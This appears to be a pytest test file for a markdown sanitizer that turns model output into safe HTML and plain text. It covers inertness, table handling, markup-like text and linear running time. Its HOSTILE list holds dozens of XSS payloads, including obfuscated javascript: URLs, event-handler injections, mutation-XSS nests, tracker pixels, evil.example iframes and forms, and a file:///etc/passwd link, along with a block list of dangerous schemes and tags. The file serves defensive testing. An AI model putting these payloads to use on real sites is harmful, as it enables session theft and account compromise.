"""Model output as safe HTML and as plain text (scans.markup): a hostile corpus rendered inert, tables
(GFM and olmOCR's HTML) kept, text that only looks like markup never lost, and linear cost."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from scans.markup import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, URL_SCHEMES, markdown_to_html, markdown_to_text


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_data(self, data):
        self.text.append(data)


def parse(fragment: str) -> _Collect:
    collector = _Collect()
    collector.feed(fragment)
    collector.close()
    return collector


def assert_inert(fragment: str) -> None:
    """Only allowed tags and attributes, no comments, and every URL http(s) or mailto."""
    parsed = parse(fragment)
    assert not parsed.comments, fragment
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, (tag, fragment)
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"class", "rel"}, (tag, name, fragment)
            assert not name.startswith("on")
            if name == "href":
                scheme = urlsplit((value or "").strip()).scheme.lower()
                assert scheme in URL_SCHEMES, (value, fragment)
            if name == "style":
                assert re.fullmatch(r"(text-align:\s*(left|right|center))?", value or ""), value
            if name == "class":
                assert value in ("", "math", "image"), value
    values = " ".join(v or "" for _, attrs in parsed.tags for name, v in attrs if name != "title").lower()
    for needle in ("javascript:", "vbscript:", "data:", "alert(1)"):
        assert needle not in values, (needle, fragment)  # a title is shown as text, never run
    for needle in ("<script", "<img", "<iframe", "<svg", "<style", "<form", "<input", "<object", "<embed", "<base"):
        assert needle not in fragment.lower(), (needle, fragment)


HOSTILE = [
    "<script>alert(1)</script>after",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",  # unclosed
    "text <script",  # unfinished tag
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert(1)\">",
    "<img src=https://tracker.example/p.gif>",
    "![pixel](https://tracker.example/p.gif)",
    "![x](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "[click](/relative/path)",
    "[click](//evil.example/)",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[t](https://ok.example \"onmouseover=alert(1)\")",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_blank" id="x">ok</a>',
    '<p onclick="alert(1)" style="position:fixed;top:0">p</p>',
    '<b onmouseover=alert(1)>b</b>',
    '<table onload="alert(1)"><tr><td style="background:url(javascript:alert(1))">c</td></tr></table>',
    '<div id="csrf" name="x" class="evil">clobber</div>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<form action="https://evil.example"><input name=x autofocus onfocus=alert(1)><button>go</button></form>',
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    '<base href="javascript:alert(1)//"><link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<div><table><tr><td><b>unclosed <i>nesting",
    "`<script>alert(1)</script>` and\n\n```html\n<script>alert(1)</script>\n```",
    "<a href='https://ok.example'><img src=x onerror=alert(1)></a>",
    "[a](https://ok.example)<a href=\"https://ok.example\"\nonclick=alert(1)>b</a>",
    "<<script>script>alert(1)<</script>/script>",
    "<div style=\"width: expression(alert(1))\">x</div>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_inert(source):
    rendered = markdown_to_html(source)
    assert_inert(rendered)
    assert markdown_to_html(rendered) == markdown_to_html(rendered)  # deterministic


def test_the_whole_corpus_at_once_is_inert_and_balanced():
    rendered = markdown_to_html("\n\n".join(HOSTILE))
    assert_inert(rendered)
    # An unclosed tag cannot swallow what a page shows after it: the fragment is balanced.
    wrapped = markdown_to_html("<div><table><tr><td><b>unclosed") + "<p>after</p>"
    assert wrapped.count("<div>") == wrapped.count("</div>") and wrapped.endswith("<p>after</p>")


def test_safe_links_keep_their_target_and_get_rel():
    rendered = markdown_to_html("[a](https://example.org/x?y=1) [m](mailto:me@example.org) <http://example.com>")
    hrefs = [dict(attrs)["href"] for tag, attrs in parse(rendered).tags if tag == "a"]
    assert hrefs == ["https://example.org/x?y=1", "mailto:me@example.org", "http://example.com"]
    assert rendered.count('rel="noopener noreferrer nofollow"') == 3


@pytest.mark.parametrize(
    "source", ["[click](javascript:alert(1))", '<a href="jav&#x09;ascript:alert(1)">click</a>', "[click](/local)"]
)
def test_a_refused_link_keeps_its_text(source):
    rendered = markdown_to_html(source)
    assert "click" in rendered and "href" not in rendered


def test_images_are_never_loaded_but_their_description_is_shown():
    rendered = markdown_to_html('![Figure 2: results](https://tracker.example/p.gif) <img src="x.png" alt="raw">')
    assert "<img" not in rendered and "tracker" not in rendered and "x.png" not in rendered
    assert '<span class="image">Figure 2: results</span>' in rendered


def test_gfm_tables_render_with_alignment():
    rendered = markdown_to_html("| Name | Value |\n|:---|---:|\n| a | 1 |")
    assert "<table>" in rendered and "<th style=\"text-align:left\">Name</th>" in rendered
    assert '<td style="text-align:right">1</td>' in rendered


def test_olmocr_html_tables_survive_sanitizing():
    source = (
        "Before\n\n<table>\n<tr><th colspan=\"2\">Head</th></tr>\n"
        "<tr><td rowspan=2>a &amp; b</td><td onclick=\"x()\">1</td></tr>\n</table>\n\nAfter"
    )
    rendered = markdown_to_html(source)
    assert_inert(rendered)
    assert '<th colspan="2">Head</th>' in rendered and '<td rowspan="2">a &amp; b</td>' in rendered
    assert "<td>1</td>" in rendered and "<p>After</p>" in rendered


def test_structure_survives_rendering():
    rendered = markdown_to_html("# H\n\n## H2\n\n- a\n- b\n\n1. one\n\n> q\n\n*em* **strong** ~~del~~ `code`\n\n---")
    for fragment in ("<h1>H</h1>", "<h2>H2</h2>", "<ul>", "<ol>", "<blockquote>", "<em>em</em>",
                     "<strong>strong</strong>", "<s>del</s>", "<code>code</code>", "<hr"):
        assert fragment in rendered


def test_text_that_only_looks_like_markup_is_shown_in_html():
    rendered = markdown_to_html("Set <MIME>/globs so a < b > c, List<T> and Map<K, V>.")
    assert "&lt;MIME&gt;/globs" in rendered and "a &lt; b &gt; c" in rendered and "List&lt;T&gt;" in rendered


@pytest.mark.parametrize(
    "latex",
    [r"$\alpha_1 + \beta_{2}$", r"$a*b*c$", r"\(x_1 \\ y_2\)", r"\[ \frac{a}{b} \{c\} \]", "$$\\sum_{i=1}^n i^2$$"],
)
def test_latex_is_left_as_written(latex):
    rendered = markdown_to_html(f"Formula {latex} here")
    assert html.escape(latex, quote=False) in rendered
    assert markdown_to_text(f"Formula {latex} here") == f"Formula {latex} here\n"


# --- plain text ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "<MIME>/globs",
        "a < b > c",
        "x*y*z in words and 2*3*4",
        r"$\alpha_1$",
        "List<T> and Map<K,V>",
        "<https://example.org/a_b>",
        "if (a<b && c>d) return;",
        "C:\\Users\\name\\file.txt",
        "price: $5 and $10",
        "snake_case_name and init_",
        "<unknown attr=\"1\">inside</unknown>",
        "3 < 4 and 5 > 2",
        "email <someone@example.org>",
    ],
)
def test_text_that_looks_like_markup_is_kept(source):
    assert markdown_to_text(source) == source + "\n"


def test_text_keeps_structure_and_drops_markup():
    source = (
        "# Title\n\nSome **bold** and *italic* text with a [link](https://example.org).\n\n"
        "- item `code`\n- ![figure](x.png) caption\n  1. nested\n  2. two\n\n"
        "* star item\n\n3) third\n4) fourth\n\n> A quote\n\n| Name | Value |\n|---|---:|\n| alpha | 1 |\n| beta | 2 |\n\n"
        "```\ncode  block\n```\n\nline one  \nline two\n\n---\n\n&copy; 2024 &amp; co"
    )
    assert markdown_to_text(source) == (
        "Title\n\nSome bold and italic text with a link.\n\n"
        "- item code\n- figure caption\n  1. nested\n  2. two\n\n"
        "* star item\n\n3) third\n4) fourth\n\nA quote\n\nName\tValue\nalpha\t1\nbeta\t2\n\n"
        "code  block\n\nline one\nline two\n\n© 2024 & co\n"
    )


def test_loose_lists_keep_blank_lines_and_continuations_are_indented():
    source = "1. first\n\n   more of first\n\n2. second"
    assert markdown_to_text(source) == "1. first\n\n   more of first\n\n2. second\n"


def test_html_tables_become_rows():
    source = (
        "<table>\n<caption>Prices</caption>\n<thead><tr><th>Item</th><th>Cost</th></tr></thead>\n"
        "<tbody><tr><td>Tea &amp; cake</td><td>$5</td></tr>\n<tr><td>A<br>B</td><td><b>7</b></td></tr>"
        "<tr><td>x<y></td><td>  spaced \n out </td></tr></tbody>\n</table>\n\nAfter the table"
    )
    assert markdown_to_text(source) == (
        "Prices\nItem\tCost\nTea & cake\t$5\nA B\t7\nx<y>\tspaced out\n\nAfter the table\n"
    )


def test_unclosed_html_table_still_gives_its_rows():
    assert markdown_to_text("<table><tr><td>a</td><td>b<tr><td>c") == "a\tb\nc\n"


def test_a_table_nested_in_a_cell_is_that_cell_s_text():
    source = "<table><tr><td>a</td><td><table><tr><td>b</td><td>c</td></tr></table></td></tr><tr><td>d</td></tr></table>"
    assert markdown_to_text(source) == "a\tb c\nd\n"


def test_inline_html_formatting_is_dropped_and_br_breaks_the_line():
    assert markdown_to_text("Line one<br>line two <sup>2</sup> H<sub>2</sub>O <!-- note -->") == "Line one\nline two 2 H2O\n"


def test_scripts_and_comments_leave_no_text():
    assert markdown_to_text("before\n\n<script>alert(1)</script>\n\n<!-- hidden -->\n\nafter") == "before\n\nafter\n"


def test_empty_and_blank_input():
    assert markdown_to_text("") == "" and markdown_to_text("  \n\n ") == ""
    assert markdown_to_html("") == ""


# --- cost ------------------------------------------------------------------------------------------

HUGE = {  # unit, size in bytes
    "unclosed math brackets": ("\\(a ", 300_000),  # texmath, which this replaces, took 7 s for 80 KB, 100 s here
    "unclosed comments": ("<!--", 120_000),
    "tag starts": ("<a ", 120_000),
    "unclosed attribute quotes": ('<a b="', 120_000),
    "dollars": ("$a", 120_000),
    "emphasis runs": ("*a ", 120_000),
    "nested tables": ("<table><tr><td>x", 120_000),
    "processing instructions": ("<?", 120_000),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize(("unit", "size"), HUGE.values(), ids=HUGE.keys())
def test_huge_hostile_inputs_finish(unit, size):
    """Linear work takes a few seconds at most on a busy 2-core machine; quadratic work on inputs this
    large runs past the timeout."""
    source = unit * (size // len(unit))
    assert_inert(markdown_to_html(source))
    assert markdown_to_text(source).strip()
